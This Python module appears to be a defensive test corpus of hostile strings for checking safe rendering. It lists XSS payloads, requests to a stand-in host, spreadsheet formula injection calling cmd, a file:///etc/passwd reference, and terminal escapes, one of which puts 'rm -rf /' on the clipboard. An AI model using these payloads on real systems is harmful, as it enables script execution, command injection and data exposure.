r"""Texts that break pages, tables, terminals and spreadsheets where they are not shown as texts; each is a plain text.

By what they are aimed at: scripts in HTML, ways out of a tag or an attribute, other elements, requests, SVG and
MathML, styles, Markdown, CSV, terminals, and Unicode. A script that runs sets `window.ran`.
"""
from __future__ import annotations

import base64
from collections.abc import Mapping, Sequence

_RUN = "window.ran=1"
_URL = "https://stranger.invalid/x"
_DATA = "data:text/html;base64," + base64.b64encode(f"<script>{_RUN}</script>".encode()).decode()

SCRIPTS = (
    f"<script>{_RUN}</script>", f"</script><script>{_RUN}</script>", f"<SCRIPT>{_RUN}</SCRIPT>",
    f"<script src='{_URL}.js'></script>", f"<script/x>{_RUN}</script>", f"<<script>{_RUN}//<</script>",
    f"<script>{_RUN}", f"<scr<script>ipt>{_RUN}</scr</script>ipt>", f"<script\n>{_RUN}</script\n>",
    f"<script type=module>{_RUN}</script>", f"</title><script>{_RUN}</script>", f"</style><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>", f"</noscript><script>{_RUN}</script>", f"--><script>{_RUN}</script>",
    f"<!--><script>{_RUN}</script>", f"]]><script>{_RUN}</script>", f"<![CDATA[<script>{_RUN}</script>]]>",
    f"%3Cscript%3E{_RUN}%3C/script%3E", f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&#60;script&#62;{_RUN}&#60;/script&#62;", f"&#x3c;script&#x3e;{_RUN}", f"\\x3cscript\\x3e{_RUN}",
    f"\\u003cscript\\u003e{_RUN}", f"\ufe64script\ufe65{_RUN}", f"\uff1cscript\uff1e{_RUN}\uff1c/script\uff1e",
    f"<\x00script>{_RUN}</script>", f"<scr\x00ipt>{_RUN}</scr\x00ipt>", f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"{{{{constructor.constructor('{_RUN}')()}}}}", f"${{{_RUN}}}",
)
HANDLERS = (
    f'"><img src=x onerror={_RUN}>', f"'><img src=x onerror={_RUN}>", f"><img src=x onerror={_RUN}>",
    f'" onmouseover="{_RUN}', f"' onfocus='{_RUN}' autofocus='", f" onerror={_RUN} ",
    f'" autofocus onfocus={_RUN} x="', f"<img src=x onerror={_RUN}>", f"<img/src=x/onerror={_RUN}>",
    f'<img """><script>{_RUN}</script>">', f"<body onload={_RUN}>", f"<svg onload={_RUN}>", f"<svg/onload={_RUN}>",
    f"<details open ontoggle={_RUN}>", f"<video><source onerror={_RUN}>", f"<audio src=x onerror={_RUN}>",
    f"<marquee onstart={_RUN}>x</marquee>", f"<input autofocus onfocus={_RUN}>", f"<select autofocus onfocus={_RUN}>",
    f"<iframe onload={_RUN}>", f"<style onload={_RUN}>", f"<xss style=animation-name:x onanimationstart={_RUN}>",
    f"<a onclick={_RUN}>x</a>", f"<div contenteditable onblur={_RUN}>", "<img src=x onerror=\"&#119;indow.ran=1\">",
    f"`onerror={_RUN}`", f"<button popovertarget=x onclick={_RUN}>x</button><xss popover id=x onbeforetoggle={_RUN}>",
)
ELEMENTS = (
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>", f"<iframe src='{_DATA}'></iframe>",
    f"<object data='{_DATA}'></object>", f"<embed src='{_DATA}'>", f"<a href='javascript:{_RUN}'>x</a>",
    f"<a href='java\tscript:{_RUN}'>x</a>", f"<form action='javascript:{_RUN}'><input type=submit></form>",
    f"<math><mtext></p></mtext><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={_RUN}&gt;'>",
    f"<svg><script>{_RUN}</script></svg>", f"<svg><a xlink:href='javascript:{_RUN}'><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x></svg>", f"<svg><foreignObject><script>{_RUN}</script>",
    f"<svg><use href='data:image/svg+xml,<svg id=x><script>{_RUN}</script></svg>#x'/></svg>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>", f"<table><td background=javascript:{_RUN}>",
    f"<isindex action=javascript:{_RUN} type=submit>", "</table></td></tr></tbody>",
    "</div></div></div></section></main></body></html>", "<plaintext>", "<xmp>", "<textarea>", "<title>", "<!--",
    "<!doctype html>", "<?xml version='1.0'?>", "<select>", "<option>", "<frameset>", "</summary></details>",
    "<dialog open style='position:fixed;inset:0'>", "<h1>", "<caption>", "<col span=1000>",
    "<td colspan=9 rowspan=9>", "<br><br><br>", "<p id=content class=skip>", "<a name=rates id=rates>",
    "<base target=_top>", "<center>", "<ul><li>",
)
REQUESTS = (
    f"<img src='{_URL}.png'>", f"<link rel=stylesheet href='{_URL}.css'>", f"<style>@import '{_URL}.css';</style>",
    f"<meta http-equiv=refresh content='0;url={_URL}'>", f"<base href='{_URL}/'>", f"<iframe src='{_URL}'></iframe>",
    f"<video poster='{_URL}.png' src='{_URL}.mp4'></video>", f"<link rel=prefetch href='{_URL}'>",
    f"<div style='background:url({_URL}.png)'>", f"background:url({_URL}.png)", f"<a ping='{_URL}' href='#'>x</a>",
    "<link rel=dns-prefetch href='//stranger.invalid'>", f"<img srcset='{_URL}.png 2x'>",
    f"<svg><image href='{_URL}.png'/></svg>", f"<input type=image src='{_URL}.png'>",
    f"<body background='{_URL}.png'>", _URL, f"//{_URL}", "file:///etc/passwd",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
)
MARKDOWN = (
    "```\n# heading\n```", "~~~\n# heading", "`a``b`", "``", "`", "``````", "| a | b |\n| --- | --- |\n| c |", "|",
    "\\|", "||||", "\\", "a\\", "\n\n# heading\n\n", "\n---\n", "a\n===", "> quote", "- item\n  - item", "1. item",
    "    code", "\tcode", "[x](javascript:alert(1))", f"[x]({_URL})", f"![x]({_URL}.png)", f"<{_URL}>",
    f"[x]: {_URL}\n\n[x]", "[^1]\n\n[^1]: note", "**bold** _it_ ~~gone~~", "***", "__init__",
    "<details>\n\n<summary>", "<!-- comment -->", "</details>\n\n# out", "@team please look", "#1 GH-1 owner/repo#1",
    "www.stranger.invalid", "someone@stranger.invalid", ":smile: :+1:", "$x^2$ $$y$$", "- [ ] task\n- [x] task",
    "[[wiki]]", "{% raw %}{{ x }}", "&copy; &#35; &nbsp;", "a  \nb", "<br/>", "> [!WARNING]\n> x",
    "```mermaid\ngraph TD\n```",
)
SPREADSHEETS = (
    "=1+1", "=cmd|' /C calc'!A0", f"=HYPERLINK(\"{_URL}\",\"x\")", f"=WEBSERVICE(\"{_URL}\")",
    "=IMPORTXML(CONCAT(\"a\",A1),\"//a\")", "+1+1", "-1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1", "\r=1+1",
    "\n=1+1", "\x00=1+1", " =1+1", '"=1+1"', "'=1+1", ";=1+1", ",=1+1", '","=1+1', '"', '""', '"\r\n"', "a,b;c\td",
    "\r\n", "%0A=1+1", "\uff1d1+1", "\ufeff=1+1", 'a"b,"c', "1e999", "0x1F", "2026-11-30", "00123", "TRUE",
)
TERMINALS = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07", f"\x1b]8;;{_URL}\x07x\x1b]8;;\x07",
    "\x1b]52;c;cm0gLXJmIC8=\x07", "\x1b[6n", "\x1b[?1049h", "\x1bPq\x1b\\", "\x9b31m", "\x9d0;title\x9c", "\x07\x07",
    "\x08\x08\x08gone", "\rgone", "\x7f\x7f", "\x0b\x0c", "\x0e\x0f", "\x1b%G", "\x1bc", "\x1b[99999;99999H",
    "\x1b[20t",
)
UNICODE = (
    "\u202egnirts\u202c", "\u2066x\u2069", "\u200e\u200f\u061c", "\u200b\u200c\u200d\u2060", "\ufeff",
    "\u2028\u2029\x85", "\x00", "nul\x00nul", "\ufffe\uffff", "\ufffd", "\U000e0001\U000e0041", "\U0001f600",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467", "e\u0301" + "\u0301" * 60, "\u0130i\u0131I\u00df",
    "\u65e5\u672c\u8a9e", "\u05e2\u05d1\u05e8\u05d9\u05ea", "\u0627\u0644\u0639", "\u1160\u3164\uffa0", "\u034f",
    "\u00ad", "\u00a0", "\u3000", "\U0010ffff", "\ue000", "a" * 3000, "\u2588" * 300, "a b " * 800, "\n" * 50, "",
    " ", "   x   ", "None", "null", "undefined", "NaN", "-0", "../../x", "a:b", "CON", "%s %d %n {0} {x!r}",
    "\\n\\t\\x41",
)
BY_KIND: Mapping[str, Sequence[str]] = {
    "scripts": SCRIPTS, "handlers": HANDLERS, "elements": ELEMENTS, "requests": REQUESTS, "markdown": MARKDOWN,
    "spreadsheets": SPREADSHEETS, "terminals": TERMINALS, "unicode": UNICODE}
CORPUS: Sequence[str] = tuple(dict.fromkeys(text for texts in BY_KIND.values() for text in texts))
"""All of them, each once."""
